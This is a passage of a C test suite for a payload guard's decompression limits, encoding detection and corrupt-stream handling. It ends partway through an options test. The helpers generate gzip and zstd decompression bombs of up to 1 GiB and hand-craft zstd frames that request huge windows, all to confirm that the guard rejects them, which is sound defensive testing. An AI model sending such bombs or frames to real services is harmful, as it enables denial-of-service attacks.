/*
 * test_guard.c — payload guards: encoding detection, bounded decompression
 * (bombs, nesting, zstd windows, corrupt and truncated streams, peak
 * memory), JSON and UTF-8 validation, the pattern file, every default
 * pattern, concurrent reloads, messages and HTTP statuses.
 */
#include "test.h"

#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>
#include <zstd.h>

#include "cairn/guard.h"
#include "guard/guard_internal.h"

#define MiB (1u << 20)

/* ---- helpers --------------------------------------------------------- */

struct buf {
    unsigned char *p;
    size_t len, cap;
};

static void buf_put(struct buf *b, const void *p, size_t n)
{
    if (n == 0)
        return;
    if (b->len + n > b->cap) {
        b->cap = (b->len + n) * 2 + 64;
        b->p = realloc(b->p, b->cap);
        assert_non_null(b->p);
    }
    memcpy(b->p + b->len, p, n);
    b->len += n;
}

/* Deflate `total` bytes produced by repeating `chunk`, streaming, so a
 * 1 GiB input is never materialised.  wbits: 15+16 gzip, 15 zlib, -15 raw. */
static struct buf deflate_stream(const void *chunk, size_t chunk_len,
                                 uint64_t total, int wbits)
{
    struct buf out = {0};
    z_stream zs;
    memset(&zs, 0, sizeof zs);
    /* Z_RLE finds the 258-byte runs of a zero stream quickly and reaches
     * deflate's ~1030:1 limit. */
    int strategy = Z_DEFAULT_STRATEGY;
    if (total > 64 * MiB)
        strategy = Z_RLE;
    assert_int_equal(deflateInit2(&zs, 9, Z_DEFLATED, wbits, 9, strategy),
                     Z_OK);
    unsigned char tmp[1 << 16];
    uint64_t fed = 0;
    int flush;
    do {
        size_t n = chunk_len;
        if (total - fed < n)
            n = (size_t)(total - fed);
        fed += n;
        flush = fed == total ? Z_FINISH : Z_NO_FLUSH;
        zs.next_in = (unsigned char *)chunk;
        zs.avail_in = (uInt)n;
        do {
            zs.next_out = tmp;
            zs.avail_out = sizeof tmp;
            int zr = deflate(&zs, flush);
            assert_true(zr == Z_OK || zr == Z_STREAM_END || zr == Z_BUF_ERROR);
            buf_put(&out, tmp, sizeof tmp - zs.avail_out);
        } while (zs.avail_out == 0);
    } while (flush != Z_FINISH);
    deflateEnd(&zs);
    return out;
}

static struct buf compress_wbits(const void *p, size_t n, int wbits)
{
    return deflate_stream(p, n ? n : 1, n, wbits);
}

static struct buf gz(const void *p, size_t n)
{
    return compress_wbits(p, n, 15 + 16);
}

static struct buf gzip_zeros(uint64_t total)
{
    static unsigned char zeros[1 << 16];
    return deflate_stream(zeros, sizeof zeros, total, 15 + 16);
}

static struct buf zst(const void *p, size_t n)
{
    struct buf b = {0};
    b.cap = ZSTD_compressBound(n);
    b.p = malloc(b.cap);
    assert_non_null(b.p);
    b.len = ZSTD_compress(b.p, b.cap, p, n, 3);
    assert_false(ZSTD_isError(b.len));
    return b;
}

static struct buf zstd_zeros(uint64_t total)
{
    static unsigned char zeros[1 << 16];
    struct buf out = {0};
    ZSTD_CCtx *cc = ZSTD_createCCtx();
    unsigned char tmp[1 << 16];
    uint64_t fed = 0;
    for (;;) {
        size_t n = sizeof zeros;
        if (total - fed < n)
            n = (size_t)(total - fed);
        fed += n;
        ZSTD_EndDirective end = fed == total ? ZSTD_e_end : ZSTD_e_continue;
        ZSTD_inBuffer ib = {zeros, n, 0};
        size_t left;
        do {
            ZSTD_outBuffer ob = {tmp, sizeof tmp, 0};
            left = ZSTD_compressStream2(cc, &ob, &ib, end);
            assert_false(ZSTD_isError(left));
            buf_put(&out, tmp, ob.pos);
        } while (ib.pos < ib.size || (end == ZSTD_e_end && left != 0));
        if (end == ZSTD_e_end)
            break;
    }
    ZSTD_freeCCtx(cc);
    return out;
}

static cairn_guard_t *open_guard(cairn_guard_opts_t *o)
{
    cairn_guard_t *g = NULL;
    char err[256] = "";
    int rc = cairn_guard_open(o, &g, err, sizeof err);
    if (rc)
        fprintf(stderr, "open: %d %s\n", rc, err);
    assert_int_equal(rc, 0);
    return g;
}

static cairn_guard_t *open_plain(void)
{
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    return open_guard(&o);
}

static const char sample_json[] =
    "{\"user\":\"client-17\",\"action\":\"tools/call\",\"args\":"
    "{\"path\":\"reports/q3.pdf\",\"n\":[1,2,3.5e2,-0.25,true,false,null]}}";

static int check_bin(cairn_guard_t *g, const void *p, size_t n,
                     cairn_guard_result_t *r)
{
    return cairn_guard_check(g, "t", 1, p, n, CAIRN_GUARD_ENC_AUTO,
                             CAIRN_GUARD_CONTENT_BINARY, r);
}

static int check_json(cairn_guard_t *g, const char *s,
                      cairn_guard_result_t *r)
{
    return cairn_guard_check(g, "t", 1, s, strlen(s), CAIRN_GUARD_ENC_AUTO,
                             CAIRN_GUARD_CONTENT_JSON, r);
}

/* ---- encodings ------------------------------------------------------- */

static void sniff_magic_bytes(void **state)
{
    static const struct {
        const char *bytes;
        size_t len;
        int enc;
    } cases[] = {
        {"\x1f\x8b\x08\x00", 4, CAIRN_GUARD_ENC_GZIP},
        {"\x1f\x8b", 2, CAIRN_GUARD_ENC_IDENTITY}, /* too short */
        {"\x78\x9c..", 4, CAIRN_GUARD_ENC_ZLIB},
        {"\x78\x01..", 4, CAIRN_GUARD_ENC_ZLIB},
        {"\x78\x5e..", 4, CAIRN_GUARD_ENC_ZLIB},
        {"\x78\xda..", 4, CAIRN_GUARD_ENC_ZLIB},
        {"x-ray", 5, CAIRN_GUARD_ENC_IDENTITY},
        {"\x28\xb5\x2f\xfd", 4, CAIRN_GUARD_ENC_ZSTD},
        {"\x5a\x2a\x4d\x18", 4, CAIRN_GUARD_ENC_ZSTD}, /* skippable */
        {"BZh9", 4, CAIRN_GUARD_ENC_BZIP2},
        {"BZh0", 4, CAIRN_GUARD_ENC_IDENTITY},
        {"\xfd" "7zXZ\0", 6, CAIRN_GUARD_ENC_XZ},
        {"PK\x03\x04", 4, CAIRN_GUARD_ENC_ZIP},
        {"PK\x05\x06", 4, CAIRN_GUARD_ENC_ZIP},
        {"\x04\x22\x4d\x18", 4, CAIRN_GUARD_ENC_LZ4},
        {"7z\xbc\xaf\x27\x1c", 6, CAIRN_GUARD_ENC_7Z},
        {"\x1f\x9d\x90", 3, CAIRN_GUARD_ENC_COMPRESS},
        {"{\"a\":1}", 7, CAIRN_GUARD_ENC_IDENTITY},
        {"", 0, CAIRN_GUARD_ENC_IDENTITY},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        int got = cairn__guard_sniff((const unsigned char *)cases[k].bytes,
                                     cases[k].len);
        if (got != cases[k].enc)
            fail_msg("case %zu: sniffed %s, want %s", k,
                     cairn_guard_encoding_name(got),
                     cairn_guard_encoding_name(cases[k].enc));
    }
}

static void encoding_parse_declared(void **state)
{
    static const struct {
        const char *v;
        int enc;
    } cases[] = {
        {"gzip", CAIRN_GUARD_ENC_GZIP},     {" GZip ", CAIRN_GUARD_ENC_GZIP},
        {"x-gzip", CAIRN_GUARD_ENC_GZIP},   {"deflate", CAIRN_GUARD_ENC_ZLIB},
        {"zstd", CAIRN_GUARD_ENC_ZSTD},     {"br", CAIRN_GUARD_ENC_BROTLI},
        {"identity", CAIRN_GUARD_ENC_IDENTITY},
        {"", CAIRN_GUARD_ENC_IDENTITY},     {"compress", CAIRN_GUARD_ENC_COMPRESS},
        {"snappy", CAIRN_GUARD_ENC_UNKNOWN}, {"gzip, zstd", CAIRN_GUARD_ENC_ZSTD},
        {"zstd,gzip ,", CAIRN_GUARD_ENC_GZIP}, {"gzi", CAIRN_GUARD_ENC_UNKNOWN},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        int enc = -1;
        assert_int_equal(cairn_guard_encoding_parse(
                             cases[k].v, strlen(cases[k].v), &enc), 0);
        if (enc != cases[k].enc)
            fail_msg("'%s': got %d want %d", cases[k].v, enc, cases[k].enc);
    }
    int enc;
    const char *six = "gzip,gzip,gzip,gzip,gzip,gzip";
    assert_int_equal(cairn_guard_encoding_parse(six, strlen(six), &enc),
                     CAIRN_EGUARD_TOO_MANY_LAYERS);
}

static void unsupported_encodings_refused(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *samples[] = {"BZh91AY&SY", "\xfd" "7zXZ\0\0\x04",
                             "PK\x03\x04\x14\0", "\x04\x22\x4d\x18\x64",
                             "7z\xbc\xaf\x27\x1c\0"};
    const size_t lens[] = {10, 8, 6, 5, 7};
    for (size_t k = 0; k < 5; k++) {
        assert_int_equal(check_bin(g, samples[k], lens[k], &r),
                         CAIRN_EGUARD_UNSUPPORTED_ENCODING);
        assert_int_equal(cairn_guard_http_status(r.code), 415);
    }
    /* Declared codings we do not decode are refused without sniffing. */
    int enc;
    assert_int_equal(cairn_guard_encoding_parse("snappy", 6, &enc), 0);
    assert_int_equal(cairn_guard_check(g, "t", 1, "abc", 3, enc,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     CAIRN_EGUARD_UNSUPPORTED_ENCODING);
    /* bzip2 inside gzip is refused at the second layer. */
    struct buf b = gz(samples[0], lens[0]);
    assert_int_equal(check_bin(g, b.p, b.len, &r),
                     CAIRN_EGUARD_UNSUPPORTED_ENCODING);
    assert_int_equal(r.layers, 1);
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void unsupported_encodings_passthrough(void **state)
{
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    o.allow_unsupported_encoding = 1;
    cairn_guard_t *g = open_guard(&o);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char xz[] = "\xfd" "7zXZ\0\0\x04";
    assert_int_equal(check_bin(g, xz, 8, &r), 0);
    assert_ptr_equal(r.payload, xz); /* opaque bytes, undecoded */
    assert_int_equal(r.payload_len, 8);
    assert_int_equal(r.encoding, CAIRN_GUARD_ENC_XZ);
    assert_int_equal(cairn_guard_check(g, "t", 1, "abc", 3,
                                       CAIRN_GUARD_ENC_BROTLI,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     0);
    /* Opaque bytes declared as JSON still have to be JSON. */
    assert_int_equal(cairn_guard_check(g, "t", 1, xz, 8, CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_JSON_SYNTAX);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void brotli_declared_refused(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    int enc;
    assert_int_equal(cairn_guard_encoding_parse("br", 2, &enc), 0);
    /* A real brotli stream of "hello" (no magic bytes exist for brotli). */
    const char br[] = "\x0b\x02\x80hello\x03";
    assert_int_equal(cairn_guard_check(g, "t", 1, br, 9, enc,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     CAIRN_EGUARD_UNSUPPORTED_ENCODING);
    /* Undeclared, it is not sniffed: it is opaque bytes. */
    assert_int_equal(check_bin(g, br, 9, &r), 0);
    assert_int_equal(r.encoding, CAIRN_GUARD_ENC_IDENTITY);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void roundtrip(int wbits, int declared)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf b = compress_wbits(sample_json, strlen(sample_json), wbits);
    assert_int_equal(cairn_guard_check(g, "t", 1, b.p, b.len, declared,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     0);
    assert_int_equal(r.layers, 1);
    assert_int_equal(r.payload_len, strlen(sample_json));
    assert_memory_equal(r.payload, sample_json, r.payload_len);
    assert_int_equal(r.bytes_in, b.len);
    assert_int_equal(r.bytes_out, strlen(sample_json));
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void gzip_roundtrip(void **state)
{
    roundtrip(15 + 16, CAIRN_GUARD_ENC_AUTO);
    roundtrip(15 + 16, CAIRN_GUARD_ENC_GZIP);
}

static void zlib_roundtrip(void **state)
{
    roundtrip(15, CAIRN_GUARD_ENC_AUTO);
    roundtrip(15, CAIRN_GUARD_ENC_ZLIB);
}

static void deflate_declared_raw_and_zlib(void **state)
{
    /* HTTP "deflate" is zlib; raw deflate from broken clients decodes too,
     * but only when declared (it has no magic). */
    roundtrip(-15, CAIRN_GUARD_ENC_ZLIB);
    roundtrip(-15, CAIRN_GUARD_ENC_DEFLATE_RAW);
}

static void zstd_roundtrip(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf b = zst(sample_json, strlen(sample_json));
    assert_int_equal(cairn_guard_check(g, "t", 1, b.p, b.len,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     0);
    assert_int_equal(r.encoding, CAIRN_GUARD_ENC_ZSTD);
    assert_int_equal(r.payload_len, strlen(sample_json));
    assert_memory_equal(r.payload, sample_json, r.payload_len);
    /* Two frames back to back decode as their concatenation. */
    struct buf two = {0};
    buf_put(&two, b.p, b.len);
    buf_put(&two, b.p, b.len);
    assert_int_equal(check_bin(g, two.p, two.len, &r), 0);
    assert_int_equal(r.payload_len, 2 * strlen(sample_json));
    free(two.p);
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void gzip_multimember(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf a = gz("hello ", 6), b = gz("world", 5), ab = {0};
    buf_put(&ab, a.p, a.len);
    buf_put(&ab, b.p, b.len);
    assert_int_equal(check_bin(g, ab.p, ab.len, &r), 0);
    assert_int_equal(r.payload_len, 11);
    assert_memory_equal(r.payload, "hello world", 11);
    free(a.p);
    free(b.p);
    free(ab.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

/* ---- bombs ----------------------------------------------------------- */

static void gzip_zeros_1gib_ratio(void **state)
{
    struct buf bomb = gzip_zeros((uint64_t)1 << 30);
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(check_bin(g, bomb.p, bomb.len, &r),
                     CAIRN_EGUARD_BOMB_RATIO);
    assert_string_equal(r.limit, "max_compression_ratio");
    assert_int_equal(r.limit_value, 100);
    /* Stopped within one output window past the grace. */
    assert_true(r.bytes_out > CAIRN_GUARD_RATIO_GRACE_BYTES);
    assert_true(r.bytes_out <= CAIRN_GUARD_RATIO_GRACE_BYTES + (64u << 10));
    assert_true(r.bytes_out > 100 * r.bytes_in);
    assert_true(r.bytes_in < bomb.len);
    assert_int_equal(cairn_guard_http_status(r.code), 413);
    char msg[256];
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_non_null(strstr(msg, "max_compression_ratio=100"));
    assert_non_null(strstr(msg, "bytes in"));
    free(bomb.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void gzip_zeros_1gib_size(void **state)
{
    struct buf bomb = gzip_zeros((uint64_t)1 << 30);
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    o.max_compression_ratio = CAIRN_GUARD_MAX_COMPRESSION_RATIO_CAP;
    cairn_guard_t *g = open_guard(&o);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(check_bin(g, bomb.p, bomb.len, &r),
                     CAIRN_EGUARD_BOMB_SIZE);
    assert_string_equal(r.limit, "max_decompressed_bytes");
    assert_int_equal(r.limit_value, MiB);
    /* Stopped at the first byte past the cap. */
    assert_int_equal(r.bytes_out, MiB + 1);
    assert_true(r.bytes_in < bomb.len / 100);
    char msg[256];
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_non_null(strstr(msg, "max_decompressed_bytes=1048576"));
    free(bomb.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static long vm_hwm_kib(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    long kib = -1;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "VmHWM: %ld kB", &kib) == 1)
            break;
    if (f)
        fclose(f);
    return kib;
}

static void gzip_bomb_peak_rss(void **state)
{
    const uint64_t cap = 8 * MiB;
    struct buf bomb = gzip_zeros((uint64_t)1 << 30);
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    o.max_input_bytes = 16 * MiB;
    o.max_decompressed_bytes = cap;
    o.max_compression_ratio = CAIRN_GUARD_MAX_COMPRESSION_RATIO_CAP;
    cairn_guard_t *g = open_guard(&o);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;

    /* Reset the high-water mark where the kernel allows it, so the peak is
     * this check's; otherwise the delta still bounds it from below. */
    FILE *cr = fopen("/proc/self/clear_refs", "w");
    if (cr) {
        fputs("5", cr);
        fclose(cr);
    }
    long before = vm_hwm_kib();
    assert_int_equal(check_bin(g, bomb.p, bomb.len, &r),
                     CAIRN_EGUARD_BOMB_SIZE);
    long after = vm_hwm_kib();
    assert_int_equal(r.bytes_out, cap + 1);
    assert_true(before > 0 && after >= before);
    long delta_kib = after - before;
    fprintf(stderr, "peak RSS grew by %ld KiB rejecting a 1 GiB bomb "
                    "(cap %llu KiB)\n", delta_kib,
            (unsigned long long)(cap >> 10));
#ifndef CAIRN_SANITIZED
    /* The cap plus a constant (zlib state, the 64 KiB window, page
     * rounding): 2 MiB.  Skipped under sanitizers only, whose shadow memory
     * and allocator quarantine inflate RSS; the decode itself still runs. */
    assert_true(delta_kib <= (long)((cap + 2 * MiB) >> 10));
#endif
    free(bomb.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void zstd_zeros_ratio(void **state)
{
    struct buf bomb = zstd_zeros((uint64_t)256 * MiB);
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(check_bin(g, bomb.p, bomb.len, &r),
                     CAIRN_EGUARD_BOMB_RATIO);
    assert_int_equal(r.encoding, CAIRN_GUARD_ENC_ZSTD);
    assert_true(r.bytes_out <= MiB + 1);
    free(bomb.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void ratio_arithmetic_exact(void **state)
{
    /* out > ratio * in without overflow, at the edges of uint64_t. */
    assert_false(cairn__guard_ratio_exceeded(100, 1, 100));
    assert_true(cairn__guard_ratio_exceeded(101, 1, 100));
    assert_true(cairn__guard_ratio_exceeded(1, 0, 100));
    assert_false(cairn__guard_ratio_exceeded(0, 0, 100));
    assert_false(cairn__guard_ratio_exceeded(UINT64_MAX, UINT64_MAX, 1));
    assert_false(cairn__guard_ratio_exceeded(UINT64_MAX - 1, UINT64_MAX / 2,
                                             2));
    assert_true(cairn__guard_ratio_exceeded(UINT64_MAX, UINT64_MAX / 2, 2));
    /* ratio * in would wrap to a small number in 64 bits. */
    assert_false(cairn__guard_ratio_exceeded(UINT64_MAX, (UINT64_C(1) << 62),
                                             100000));
}

static void gzip_inside_gzip(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf one = gz(sample_json, strlen(sample_json));
    struct buf two = gz(one.p, one.len);
    struct buf three = gz(two.p, two.len);
    assert_int_equal(cairn_guard_check(g, "t", 1, two.p, two.len,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     0);
    assert_int_equal(r.layers, 2);
    assert_int_equal(r.payload_len, strlen(sample_json));
    assert_memory_equal(r.payload, sample_json, r.payload_len);
    /* One budget: bytes_out counts both layers. */
    assert_int_equal(r.bytes_out, one.len + strlen(sample_json));
    assert_int_equal(check_bin(g, three.p, three.len, &r),
                     CAIRN_EGUARD_TOO_MANY_LAYERS);
    assert_int_equal(r.limit_value, 2);
    assert_int_equal(cairn_guard_http_status(r.code), 413);

    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    o.max_decode_layers = 1;
    cairn_guard_t *g1 = open_guard(&o);
    assert_int_equal(check_bin(g1, two.p, two.len, &r),
                     CAIRN_EGUARD_TOO_MANY_LAYERS);
    o.max_decode_layers = 0;
    cairn_guard_t *g0 = open_guard(&o);
    assert_int_equal(check_bin(g0, one.p, one.len, &r),
                     CAIRN_EGUARD_TOO_MANY_LAYERS);
    assert_int_equal(check_bin(g0, "plain", 5, &r), 0);
    cairn_guard_close(g0);
    cairn_guard_close(g1);
    free(one.p);
    free(two.p);
    free(three.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void nested_layers_share_budget(void **state)
{
    /* 700 KiB of text compressed twice: each layer alone fits 1 MiB, and the
     * inner output alone is under the cap, but the budget is shared. */
    size_t n = 700u << 10;
    unsigned char *text = malloc(n);
    uint32_t x = 12345;
    for (size_t k = 0; k < n; k++) {
        x = x * 1103515245u + 12345u;
        text[k] = (unsigned char)('a' + (x >> 16) % 26);
    }
    struct buf one = gz(text, n), two = gz(one.p, one.len);
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_true(one.len > 350u << 10); /* random letters: ~60% */
    assert_int_equal(check_bin(g, two.p, two.len, &r),
                     CAIRN_EGUARD_BOMB_SIZE);
    assert_int_equal(r.layers, 2);
    assert_int_equal(r.bytes_out, MiB + 1);
    /* The inner layer alone passes. */
    assert_int_equal(check_bin(g, one.p, one.len, &r), 0);
    assert_int_equal(r.payload_len, n);
    free(text);
    free(one.p);
    free(two.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void zstd_huge_window(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    /* Hand-built frames: magic, descriptor 0x00 (no content size, not
     * single-segment), window descriptor, one raw last block "hello". */
    unsigned char frame[] = {0x28, 0xB5, 0x2F, 0xFD, 0x00, 0x00,
                             0x29, 0x00, 0x00, 'h',  'e',  'l',
                             'l',  'o'};
    /* Window descriptor = (log - 10) << 3: 2^30 asks for 1 GiB. */
    frame[5] = (30 - 10) << 3;
    assert_int_equal(check_bin(g, frame, sizeof frame, &r),
                     CAIRN_EGUARD_WINDOW_TOO_LARGE);
    assert_string_equal(r.limit, "zstd_window_log_max");
    assert_int_equal(cairn_guard_http_status(r.code), 413);
    frame[5] = (24 - 10) << 3; /* 16 MiB: above the 8 MiB cap */
    assert_int_equal(check_bin(g, frame, sizeof frame, &r),
                     CAIRN_EGUARD_WINDOW_TOO_LARGE);
    frame[5] = (23 - 10) << 3; /* exactly 8 MiB: allowed */
    assert_int_equal(check_bin(g, frame, sizeof frame, &r), 0);
    assert_int_equal(r.payload_len, 5);
    assert_memory_equal(r.payload, "hello", 5);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void zstd_huge_content_size(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    /* Single-segment frame declaring 2^40 bytes of content (8-byte field):
     * the window is the content size, refused before any allocation. */
    unsigned char frame[] = {0x28, 0xB5, 0x2F, 0xFD, 0xE0, 0, 0, 0, 0, 0,
                             1,    0,    0,    0x29, 0x00, 0x00, 'h', 'e',
                             'l',  'l',  'o'};
    assert_int_equal(check_bin(g, frame, sizeof frame, &r),
                     CAIRN_EGUARD_WINDOW_TOO_LARGE);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void truncated_streams(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf bufs[3] = {gz(sample_json, strlen(sample_json)),
                          compress_wbits(sample_json, strlen(sample_json), 15),
                          zst(sample_json, strlen(sample_json))};
    for (int k = 0; k < 3; k++) {
        /* Every proper prefix long enough to be sniffed is truncated. */
        for (size_t cut = 4; cut < bufs[k].len; cut++) {
            int rc = check_bin(g, bufs[k].p, cut, &r);
            if (rc != CAIRN_EGUARD_CORRUPT_ENCODING)
                fail_msg("format %d cut at %zu/%zu: %d", k, cut, bufs[k].len,
                         rc);
        }
        assert_int_equal(cairn_guard_http_status(r.code), 400);
        free(bufs[k].p);
    }
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void corrupt_streams(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf b = gz(sample_json, strlen(sample_json));
    /* A flipped bit in the CRC-32 trailer. */
    b.p[b.len - 6] ^= 0x01;
    assert_int_equal(check_bin(g, b.p, b.len, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    /* An invalid block type in the deflate data (BTYPE = 11). */
    b.p[b.len - 6] ^= 0x01;
    b.p[10] |= 0x06;
    assert_int_equal(check_bin(g, b.p, b.len, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    free(b.p);
    /* zstd: a corrupted checksum-less frame body. */
    struct buf z = zst(sample_json, strlen(sample_json));
    for (size_t k = 6; k < z.len; k++)
        z.p[k] ^= 0xA5;
    assert_int_equal(check_bin(g, z.p, z.len, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    free(z.p);
    /* zlib header claiming a preset dictionary. */
    const unsigned char dict[] = {0x78, 0xBB, 0, 0, 0, 0, 0x03, 0x00};
    assert_int_equal(cairn_guard_check(g, "t", 1, dict, sizeof dict,
                                       CAIRN_GUARD_ENC_ZLIB,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void declared_encoding_mismatch(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(cairn_guard_check(g, "t", 1, sample_json,
                                       strlen(sample_json),
                                       CAIRN_GUARD_ENC_GZIP,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    assert_int_equal(cairn_guard_check(g, "t", 1, sample_json,
                                       strlen(sample_json),
                                       CAIRN_GUARD_ENC_ZSTD,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    /* Declared identity is taken at its word: gzip bytes stay bytes. */
    struct buf b = gz("x", 1);
    assert_int_equal(cairn_guard_check(g, "t", 1, b.p, b.len,
                                       CAIRN_GUARD_ENC_IDENTITY,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     0);
    assert_int_equal(r.layers, 0);
    assert_ptr_equal(r.payload, b.p);
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void trailing_garbage(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    struct buf b = gz("hello", 5);
    buf_put(&b, "junk", 4);
    assert_int_equal(check_bin(g, b.p, b.len, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    free(b.p);
    struct buf z = zst("hello", 5);
    buf_put(&z, "junk", 4);
    assert_int_equal(check_bin(g, z.p, z.len, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    free(z.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void input_too_large(void **state)
{
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_GUARD_NO_PATTERNS;
    o.max_input_bytes = 10;
    cairn_guard_t *g = open_guard(&o);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(check_bin(g, "0123456789", 10, &r), 0);
    assert_int_equal(check_bin(g, "0123456789a", 11, &r),
                     CAIRN_EGUARD_TOO_LARGE);
    assert_string_equal(r.limit, "max_input_bytes");
    assert_int_equal(cairn_guard_http_status(r.code), 413);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void empty_payload(void **state)
{
    cairn_guard_t *g = open_guard(NULL);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(cairn_guard_check(g, "t", 1, NULL, 0,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     0);
    assert_int_equal(r.payload_len, 0);
    assert_int_equal(cairn_guard_check(g, "t", 1, NULL, 0,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_TEXT, &r),
                     0);
    assert_int_equal(cairn_guard_check(g, "t", 1, NULL, 0,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_JSON_SYNTAX);
    /* Declared gzip with no bytes is a truncated stream. */
    assert_int_equal(cairn_guard_check(g, "t", 1, NULL, 0,
                                       CAIRN_GUARD_ENC_GZIP,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     CAIRN_EGUARD_CORRUPT_ENCODING);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void opts_out_of_range(void **state)
{
    cairn_guard_opts_t o;
    cairn_guard_t *g = NULL;
    char err[128];
    cairn_guard_opts_init(&o);
    o.max_decode_layers = CAIRN_GUARD_MAX_DECODE_LAYERS_CAP + 1;
    assert_int_equal(cairn_guard_open(&o, &g, err, sizeof err),
                     CAIRN_EBAD_OPTION);
    assert_non_null(strstr(err, "max_decode_layers"));
    assert_null(g);
    cairn_guard_opts_init(&o);
    o.max_compression_ratio = 0;
